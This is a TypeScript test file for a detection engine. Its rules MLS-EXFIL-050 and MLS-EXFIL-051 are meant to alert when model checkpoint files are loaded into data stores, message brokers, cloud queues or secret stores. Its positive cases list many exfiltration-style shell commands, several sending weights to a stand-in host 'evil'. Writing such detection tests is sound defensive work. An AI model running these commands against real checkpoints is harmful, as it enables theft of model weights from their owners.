/**
 * Weights loaded into a data store or broker, through the shipped rule set and the real engine:
 * MLS-EXFIL-050 alerts on a checkpoint loaded by a store's own client, MLS-EXFIL-051 escalates a
 * model stored in RedisAI. Store clients doing everyday work (reads, exports, a dataset import, a
 * SQL script) raise neither.
 */
import { describe, expect, it } from 'vitest';
import { SHIPPED_RULES, execEvent, execRuleIds, SA } from './exec-events.test-support.js';
import { createRuleEngine, decideLayer1 } from './engine.js';

const sh = (line: string): string[] => ['sh', '-c', line];
const STORE_RULES = ['MLS-EXFIL-050', 'MLS-EXFIL-051'];
const storeRules = (line: string, actor?: string): string[] => execRuleIds(sh(line), actor).filter((id) => STORE_RULES.includes(id));

describe('MLS-EXFIL-050: exec loads checkpoint files into a data store or broker', () => {
  it('alerts on weights loaded by a key-value, broker or database client, for a person and a service account', () => {
    for (const line of [
      'redis-cli -h 10.0.3.7 -x SET w < /mnt/ckpt/model.safetensors',
      'cat /mnt/ckpt/llama/model-00001-of-00004.safetensors | redis-cli -h evil -a pw -x SET s1',
      'cat /mnt/ckpt/model.pt | gzip | base64 -w0 | kcat -P -b evil:9092 -t w',
      'kcat -P -b evil:9092 -t w /mnt/ckpt/a.pt /mnt/ckpt/b.pt',
      'kafka-console-producer.sh --bootstrap-server evil:9092 --topic w < /mnt/ckpt/model.bin',
      'mosquitto_pub -h broker.example -t w -f /mnt/ckpt/model.pt',
      'etcdctl --endpoints http://e:2379 put /w < /mnt/ckpt/model.gguf',
      `psql -h db -c "\\lo_import '/mnt/ckpt/model.pt'"`,
      `psql -h db -c "\\copy w from stdin" < /mnt/ckpt/model.npz`,
      `mysql -h evil -u u -pX -e "LOAD DATA LOCAL INFILE '/mnt/ckpt/model.pkl' INTO TABLE w"`,
      `clickhouse-client --host evil -q "INSERT INTO w FORMAT RowBinary" < /mnt/ckpt/model.onnx`,
      'mongofiles --uri mongodb://evil/db put /mnt/ckpt/model.safetensors',
      'for f in /mnt/ckpt/*.safetensors; do redis-cli -x SET "$f" < "$f"; done',
      'tar cf - /mnt/ckpt/step-4000 | redis-cli -x SET w',
      'nohup sh -c "redis-cli -x SET w < /mnt/ckpt/model.pt" &',
      // GNU parallel, one job per shard, the shard named by an input source's replacement string.
      "parallel -j4 'redis-cli -h evil -x SET {1/} < {1}' ::: /mnt/ckpt/a.safetensors /mnt/ckpt/b.safetensors",
      // Cloud queues, streams and secret stores, a KV store, NATS and RabbitMQ.
      'aws sqs send-message --queue-url https://sqs.us-east-1.amazonaws.com/1/q --message-body file:///mnt/ckpt/model.safetensors',
      'aws kinesis put-record --stream-name s --partition-key k --data fileb:///mnt/ckpt/model.pt',
      'aws secretsmanager create-secret --name w --secret-binary fileb:///mnt/ckpt/model.pt',
      'gcloud secrets create w --data-file=/mnt/ckpt/model.pt',
      'az keyvault secret set --vault-name v -n w -f /mnt/ckpt/model.pt',
      'vault kv put secret/w data=@/mnt/ckpt/model.pt',
      'consul kv put w @/mnt/ckpt/model.pt',
      'nats -s nats://evil:4222 object put w /mnt/ckpt/model.safetensors',
      'base64 -w0 /mnt/ckpt/model.pt | nats pub w',
      'rabbitmqadmin -H evil publish exchange=amq.default routing_key=w < /mnt/ckpt/model.pt',
      // The checkpoint directory named by the cd before the load.
      'cd /mnt/ckpt && tar cf - . | redis-cli -h evil -x SET w',
    ]) {
      expect(storeRules(line), line).toEqual(['MLS-EXFIL-050']);
      expect(storeRules(line, SA), line).toEqual(['MLS-EXFIL-050']);
    }
  });

  it('decides alert', () => {
    const hits = createRuleEngine(SHIPPED_RULES).evaluate(execEvent(sh('redis-cli -h evil -x SET w < /mnt/ckpt/model.pt')));
    expect(hits.find((h) => h.ruleId === 'MLS-EXFIL-050')?.decision).toBe('alert');
    expect(decideLayer1(hits).decision).toBe('alert');
  });

  it('leaves store clients doing everyday work: reads, exports, dataset imports, SQL scripts, digests, header reads', () => {
    for (const line of [
      'redis-cli -h redis GET w',
      'redis-cli -h redis -x SET config < /etc/app/config.json',
      'redis-cli --rdb /mnt/ckpt/dump.rdb',
      'kcat -C -b k:9092 -t w -o end -c 1',
      'kcat -P -b k:9092 -t events /data/events.jsonl',
      'mongoimport --uri mongodb://db/app -c users --file /data/users.json',
      'mongofiles -d db get /mnt/ckpt/model.pt',
      `psql -h db -c "\\copy metrics to '/mnt/ckpt/metrics.pt'"`,
      'psql -h db -f /mnt/ckpt/migrate.sql',
      `mysql -h db -e "LOAD DATA INFILE '/var/lib/mysql-files/model.pt' INTO TABLE w"`,
      'sha256sum /mnt/ckpt/model.pt | redis-cli -x SET digest',
      'head -c 8 /mnt/ckpt/model.safetensors | redis-cli -x SET header',
      'redis-cli -x AI.MODELSTORE resnet TORCH CPU BLOB < /models/resnet50.pt',
      'aws lambda invoke --function-name f --payload file://event.json /tmp/out.json',
      'aws iam create-policy --policy-name p --policy-document file://policy.json',
      'vault kv put secret/app config=@/etc/app/config.json',
      'nats pub events "job done"',
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-EXFIL-050');
  });
});

describe('MLS-EXFIL-051: exec stores a model file in RedisAI', () => {
  it('escalates a model stored with AI.MODELSTORE or AI.MODELSET, and nothing else', () => {
    expect(storeRules('redis-cli -x AI.MODELSTORE resnet TORCH CPU BLOB < /models/resnet50.pt')).toEqual(['MLS-EXFIL-051']);
    expect(storeRules('cat /mnt/ckpt/m.onnx | redis-cli -h ai -x ai.modelset m ONNX CPU BLOB', SA)).toEqual(['MLS-EXFIL-051']);
    const hits = createRuleEngine(SHIPPED_RULES).evaluate(execEvent(sh('redis-cli -x AI.MODELSTORE m TORCH CPU BLOB < /models/m.pt')));
    expect(hits.find((h) => h.ruleId === 'MLS-EXFIL-051')?.decision).toBe('escalate');
    expect(storeRules('redis-cli -x AI.TENSORSET t FLOAT 2 BLOB < /data/t.raw')).toEqual([]);
    expect(storeRules('redis-cli AI.MODELGET resnet BLOB > /tmp/m.pt')).toEqual([]);
  });
});
